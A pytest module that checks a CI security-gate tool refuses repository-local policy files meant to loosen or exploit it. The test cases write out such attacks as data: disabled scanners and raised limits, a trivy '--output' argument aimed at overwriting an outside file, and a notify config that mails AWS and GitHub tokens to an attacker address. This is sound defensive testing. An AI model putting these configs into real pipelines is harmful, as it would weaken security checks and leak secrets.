"""A pull request's own posture-gate.yml can never loosen, silence or exploit its gate.

Each attack of issue 10 is planted in a copy of examples/webapp and scanned with the real
scanners under a trusted `--policy strict`: it ends in exit 2 naming the file, line and key,
or in exit 1 with the same per-scanner counts as the clean copy. Never exit 0, never a file
written outside the output directory, never a connection to the attacker's SMTP server.
"""

from __future__ import annotations

import json
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import ADVISORIES, cli_env, copy_webapp, run_cli

pytestmark = pytest.mark.slow


def _counts(out: Path) -> dict[str, int]:
    doc = json.loads((out / "findings.json").read_text())
    return {s["name"]: s["raw_count"] for s in doc["scanners"]}


def _scan(root: Path, out: Path, *extra: str,
          env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return run_cli("scan", str(root), "--policy", "strict", "--advisories", str(ADVISORIES),
                   "-o", str(out), *extra, env=env)


@pytest.fixture(scope="module")
def clean(tmp_path_factory: pytest.TempPathFactory) -> dict[str, int]:
    base = tmp_path_factory.mktemp("clean")
    proc = _scan(copy_webapp(base), base / "out")
    assert proc.returncode == 1, proc.stderr
    counts = _counts(base / "out")
    assert set(counts) == {"pip-audit", "bandit", "semgrep", "trivy"}
    assert all(n > 0 for n in counts.values()), counts
    return counts


def _snapshot(d: Path) -> dict[str, bytes]:
    return {str(p.relative_to(d)): p.read_bytes() for p in sorted(d.rglob("*")) if p.is_file()}


@pytest.fixture
def smtp_trap() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP listener on 127.0.0.1 that records every connection (there must be none)."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(5)
    srv.settimeout(0.2)
    seen: list[bytes] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = srv.accept()
            except OSError:
                continue
            seen.append(b"connected")
            conn.close()

    t = threading.Thread(target=accept, daemon=True)
    t.start()
    yield srv.getsockname()[1], seen
    stop.set()
    t.join()
    srv.close()


LOOSENING = {
    "scanners-disabled": ("scanners:\n  bandit: {enabled: false}\n", 3,
                          "scanners.bandit.enabled"),
    "optional-tiny-timeouts": (
        "scanners:\n" + "".join(f"  {n}: {{optional: true, timeout: 0.01}}\n"
                                for n in ("pip-audit", "bandit", "semgrep", "trivy")),
        3, "scanners.pip-audit.optional"),
    "bandit-args-only-b101": ("scanners:\n  bandit: {args: [-t, B101]}\n", 3,
                              "scanners.bandit.args"),
    "semgrep-exclude-py": ("scanners:\n  semgrep: {args: [--exclude, '*.py']}\n", 3,
                           "scanners.semgrep.args"),
    "empty-advisories": ("advisories: empty-advisories\n", 2, "advisories"),
    "limits-raised": ("gates:\n  code: {max: {critical: 99, high: 99, medium: 99}}\n", 3,
                      "gates.code.max"),
}


@pytest.mark.parametrize("case", sorted(LOOSENING))
def test_loosening_policy_is_refused(tmp_path: Path, case: str) -> None:
    text, line, key = LOOSENING[case]
    root = copy_webapp(tmp_path)
    (root / "empty-advisories").mkdir()
    (root / "posture-gate.yml").write_text("version: 1\n" + text)
    proc = _scan(root, tmp_path / "out")
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert proc.stderr.strip().splitlines() == [proc.stderr.strip()]  # one line
    assert f"posture-gate.yml:{line}: {key}: " in proc.stderr, proc.stderr


def test_trivy_output_flag_writes_nothing_outside(tmp_path: Path) -> None:
    root = copy_webapp(tmp_path)
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    (root / "posture-gate.yml").write_text(
        f"version: 1\nscanners:\n  trivy: {{args: [--output, '{victim}']}}\n")
    before = _snapshot(tmp_path)
    proc = _scan(root, tmp_path / "out")
    assert proc.returncode == 2 and "scanners.trivy.args: '--output'" in proc.stderr
    assert victim.read_text() == "precious\n"
    after = {k: v for k, v in _snapshot(tmp_path).items() if not k.startswith("out/")}
    assert after == before


def test_notify_to_attacker_smtp_is_refused_and_never_connects(
        tmp_path: Path, smtp_trap: tuple[int, list[bytes]]) -> None:
    port, seen = smtp_trap
    root = copy_webapp(tmp_path)
    (root / "posture-gate.yml").write_text(
        "version: 1\nnotify:\n  email:\n    smtp_host: 127.0.0.1\n"
        f"    smtp_port: {port}\n    starttls: false\n    from: ci@example.com\n"
        "    to: [attacker@example.com]\n    on: always\n"
        "    username_env: AWS_SECRET_ACCESS_KEY\n    password_env: GITHUB_TOKEN\n")
    env = cli_env(AWS_SECRET_ACCESS_KEY="wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
                  GITHUB_TOKEN="ghs_planted0000000000000000000000000000")
    proc = _scan(root, tmp_path / "out", env=env)
    assert proc.returncode == 2 and "posture-gate.yml:2: notify: " in proc.stderr
    assert seen == []
    assert "wJalrXUtnFEMI" not in proc.stdout + proc.stderr


def test_emptied_gates_change_nothing(tmp_path: Path, clean: dict[str, int]) -> None:
    root = copy_webapp(tmp_path)
    (root / "posture-gate.yml").write_text("version: 1\ngates: {}\n")
    proc = _scan(root, tmp_path / "out")
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert _counts(tmp_path / "out") == clean
    doc = json.loads((tmp_path / "out" / "findings.json").read_text())
    assert doc["policy"]["trusted"] == "preset:strict"
    assert doc["policy"]["repository_local"].endswith("posture-gate.yml")
    assert "policy: trusted preset:strict" in proc.stdout


def test_tightening_policy_applies(tmp_path: Path, clean: dict[str, int]) -> None:
    root = copy_webapp(tmp_path)
    (root / "posture-gate.yml").write_text(
        "version: 1\ngates:\n  code: {max: {critical: 0, high: 0, medium: 0, low: 0}}\n")
    proc = _scan(root, tmp_path / "out")
    assert proc.returncode == 1
    doc = json.loads((tmp_path / "out" / "findings.json").read_text())
    assert any(g["name"] == "code.max.low" and not g["passed"] for g in doc["verdict"]["gates"])
    assert doc["policy"]["tightened"] and "gates.code.max" in doc["policy"]["tightened"][0]


def test_without_trusted_policy_nothing_scanned_is_not_a_pass(tmp_path: Path) -> None:
    """A developer's machine: the tree's policy applies, but zero scanners is never a pass."""
    root = copy_webapp(tmp_path)
    (root / "posture-gate.yml").write_text(
        "version: 1\nscanners:\n  bandit: {enabled: false}\n"
        "gates:\n  code: {max: {high: 0}}\n")
    proc = run_cli("scan", str(root), "-o", str(tmp_path / "out"))
    assert proc.returncode == 2 and "no scanner was run" in proc.stderr, proc.stderr
    (root / "posture-gate.yml").write_text(
        "version: 1\nscanners:\n" + "".join(
            f"  {n}: {{optional: true, timeout: 0.01}}\n"
            for n in ("pip-audit", "bandit", "semgrep", "trivy"))
        + "gates:\n  code: {max: {high: 0}}\n")
    proc = run_cli("scan", str(root), "-o", str(tmp_path / "out2"), "--advisories",
                   str(ADVISORIES))
    assert proc.returncode == 2 and "no scanner produced a result" in proc.stderr, proc.stderr


def test_empty_advisory_directory_is_an_error(tmp_path: Path) -> None:
    root = copy_webapp(tmp_path)
    empty = tmp_path / "advisories"
    empty.mkdir()
    proc = run_cli("scan", str(root), "--policy", "strict", "--advisories", str(empty),
                   "-o", str(tmp_path / "out"))
    assert proc.returncode == 2 and f"{empty}: no OSV advisory records" in proc.stderr


def test_a_mirror_without_records_is_an_error_after_the_scan_started(tmp_path: Path) -> None:
    """Only withdrawn records: found once the scanners run (the index is built when
    pip-audit first asks), and still exit 2, never a pass with pip-audit told nothing is
    vulnerable."""
    root = copy_webapp(tmp_path)
    mirror = tmp_path / "advisories"
    mirror.mkdir()
    (mirror / "a.json").write_text(json.dumps({"id": "PYSEC-X-1", "withdrawn": "2024-01-01"}))
    proc = run_cli("scan", str(root), "--policy", "strict", "--advisories", str(mirror),
                   "-o", str(tmp_path / "out"))
    assert proc.returncode == 2, proc.stderr
    assert proc.stderr.strip().endswith(f"{mirror}: no OSV advisory records found (.json/.yaml "
                                        "with an 'id'); an empty advisory directory would "
                                        "audit nothing"), proc.stderr
    assert not (tmp_path / "out" / "findings.json").exists()


def test_policy_ref_uses_the_merge_target(tmp_path: Path, clean: dict[str, int]) -> None:
    root = copy_webapp(tmp_path)

    def git(*args: str) -> None:
        subprocess.run(["git", "-C", str(root), *args], check=True, capture_output=True)

    git("init", "-q", "-b", "main")
    git("config", "user.email", "t@example.com")
    git("config", "user.name", "t")
    (root / "posture-gate.yml").write_text("version: 1\nextends: strict\n")
    git("add", ".")
    git("commit", "-qm", "base")
    git("checkout", "-qb", "pr")
    (root / "posture-gate.yml").write_text("version: 1\ngates: {code: {max: {high: 99}}}\n")
    git("commit", "-qam", "loosen the gate")
    proc = run_cli("scan", str(root), "--policy-ref", "main:posture-gate.yml", "--advisories",
                   str(ADVISORIES), "-o", str(tmp_path / "out"))
    assert proc.returncode == 2 and "posture-gate.yml:2: gates.code.max: " in proc.stderr
    git("checkout", "-q", "main", "--", "posture-gate.yml")
    proc = run_cli("scan", str(root), "--advisories", str(ADVISORIES),
                   "-o", str(tmp_path / "out"), env=cli_env(
                       POSTURE_GATE_POLICY_REF="main:posture-gate.yml"))
    assert proc.returncode == 1, proc.stderr
    assert _counts(tmp_path / "out") == clean
